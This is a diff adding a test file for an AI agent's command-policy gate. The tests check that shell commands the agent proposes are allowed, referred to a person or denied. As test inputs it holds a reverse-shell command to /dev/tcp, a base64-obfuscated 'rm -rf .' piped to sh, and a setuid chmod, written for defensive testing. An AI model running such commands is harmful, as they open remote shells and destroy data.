@@ -1,0 +1,121 @@
+import { describe, expect, test } from 'vitest';
+import { propose } from '../../src/activities/propose.ts';
+import { createAgent, nextAgentCommand } from '../../src/core/agent.ts';
+import { advanceAgent } from '../../src/core/agent-events.ts';
+import { receiveForAgent } from '../../src/core/agent-messages.ts';
+import type { AgentState } from '../../src/core/agent-state.ts';
+import { answerCall, showCall } from '../../src/core/call-gate.ts';
+import { listOpenDecisions } from '../../src/core/control.ts';
+import type { Policy } from '../../src/core/policy.ts';
+import { editCommand, ignoredCommand, listCommand, surveyCommand } from '../../src/offline/ast-grep-commands.ts';
+import { policyOf, sha, specOf, thought } from './builders.ts';
+
+const line = (command: string) =>
+  propose('work', { kind: 'call', callId: 'c1', tool: 'shell', arguments: JSON.stringify({ command }) });
+
+/** The agent after its model proposed this command. */
+function proposed(command: string, policy: Policy = {}): AgentState {
+  const began = advanceAgent(createAgent('r/lib.1', specOf({ policy: policyOf(policy) })), {
+    kind: 'began',
+    at: 1,
+    head: sha('begin'),
+  });
+  return advanceAgent(began, thought(began, 2, line(command)));
+}
+
+const RULE = { id: 'no-deploy', programs: ['deploy'], reason: 'people deploy', match: ['deploy x'], notMatch: [] };
+
+describe('a command that a rule speaks against', () => {
+  test('is asked about, with the reason and the command itself, and runs only when a person allows it', () => {
+    const asked = proposed('git push --force\necho done');
+    expect(nextAgentCommand(asked)).toEqual({ kind: 'wait', why: 'call lib/call@1' });
+    expect(listOpenDecisions(asked.control)).toMatchObject([
+      {
+        kind: 'call',
+        digest: line('git push --force\necho done').digest,
+        about: 'rule git-publish (built-in): delivery is made by Coxswain, after approval\ngit push --force\necho done',
+      },
+    ]);
+    const allowed = receiveForAgent(asked, 'approve', [{ decision: 'lib/call@1', by: 'ann' }], 5).state;
+    expect(nextAgentCommand(allowed)).toMatchObject({ kind: 'act', input: { decision: { by: 'ann (lib/call@1)' } } });
+  });
+
+  test('is denied where a rule denies it, whatever else allows it, and the model is told why', () => {
+    const denied = proposed('echo hi; bash -i >& /dev/tcp/10.0.0.1/4242 0>&1');
+    expect(nextAgentCommand(denied)).toMatchObject({
+      kind: 'think',
+      input: {
+        key: 'think/2',
+        results: [{ output: expect.stringMatching(/^Policy denies this call, .*It was not run\.$/) }],
+      },
+    });
+    expect(denied.control.log.at(-1)?.text).toContain('denied');
+  });
+
+  test('by the policy of any layer, also where the built-in rules say nothing', () => {
+    expect(nextAgentCommand(proposed('npm test && deploy x')).kind).toBe('act');
+    const asking = { rules: { commands: [{ ...RULE, effect: 'ask' as const }] } };
+    expect(nextAgentCommand(proposed('npm test && deploy x', asking))).toMatchObject({ why: 'call lib/call@1' });
+    const denying = { rules: { commands: [{ ...RULE, effect: 'deny' as const }] } };
+    expect(nextAgentCommand(proposed('deploy x', denying)).kind).toBe('think');
+  });
+
+  test('and one that can’t be judged is asked about, never allowed', () => {
+    const asked = proposed('base64 -d <<< cm0gLXJmIC4= | sh');
+    expect(listOpenDecisions(asked.control)[0]?.about).toMatch(/^rules \(built-in\): can't be judged: .*\n/);
+  });
+
+  test('of a gate that denies all, nothing runs; of one that asks, a rule still denies', () => {
+    const outcome = (command: string, commands: 'ask' | 'deny'): string =>
+      answerCall(policyOf({ gates: { commands } }), line(command)).outcome;
+    expect(outcome('ls', 'deny')).toBe('deny');
+    expect(outcome('git push', 'deny')).toBe('deny');
+    expect(outcome('ls', 'ask')).toBe('ask');
+    expect(outcome('chmod u+s x', 'ask')).toBe('deny');
+  });
+});
+
+test('daily work in the sandbox is not asked about', () => {
+  const daily = [
+    'git ls-files',
+    "ast-grep run --pattern 'var $A = $B' --rewrite 'const $A = $B' --lang js --update-all lib",
+    'npm test',
+    'mkdir -p lib/x && git mv lib/a.js lib/x/a.js',
+    "sed -i 's/a/b/' lib/*.js",
+    "cat > a.js <<'EOF'\nmodule.exports = 1;\nEOF",
+    'node -e "console.log(1)"',
+    'rm -rf dist',
+  ];
+  for (const command of daily)
+    expect([command, answerCall(policyOf(), line(command)).outcome]).toEqual([command, 'allow']);
+});
+
+test('nor is anything that the offline model runs, whatever it replaces', () => {
+  const replacement = { pattern: 'var $A = $B', rewrite: 'const $A = $B', language: 'js' };
+  const scope = { replacement, excluded: ['!dist', '!/a/*.min.js'] };
+  const commands = [
+    surveyCommand(scope, ['lib/', 'src/']),
+    ignoredCommand(['lib', 'test']),
+    listCommand(scope, ['lib', 'test/*.js'], 2),
+    editCommand(scope, ['lib', '-odd name']),
+  ];
+  for (const command of commands) expect(answerCall(policyOf(), line(command))).toMatchObject({ outcome: 'allow' });
+});
+
+test('a history keeps a kilobyte of a command at most; what is left out is said, and judged all the same', () => {
+  const long = `${'echo some words; '.repeat(200)}git push`;
+  const call = line(long);
+  expect(JSON.stringify(call).length).toBeLessThan(3000);
+  const answer = answerCall(policyOf(), call);
+  expect(answer).toMatchObject({ outcome: 'ask', by: 'rule git-publish (built-in)' });
+  expect(showCall(call, answer)).toMatch(/… and \d+ more characters, in the checkpoint$/);
+});
+
+test('a call of a run from before there were rules is decided by its gate alone', () => {
+  const { facts: _, judged: __, ...old } = line('git push');
+  expect(answerCall(policyOf(), old)).toEqual({
+    outcome: 'allow',
+    by: 'policy gates.commands (built-in)',
+    reason: null,
+  });
+});
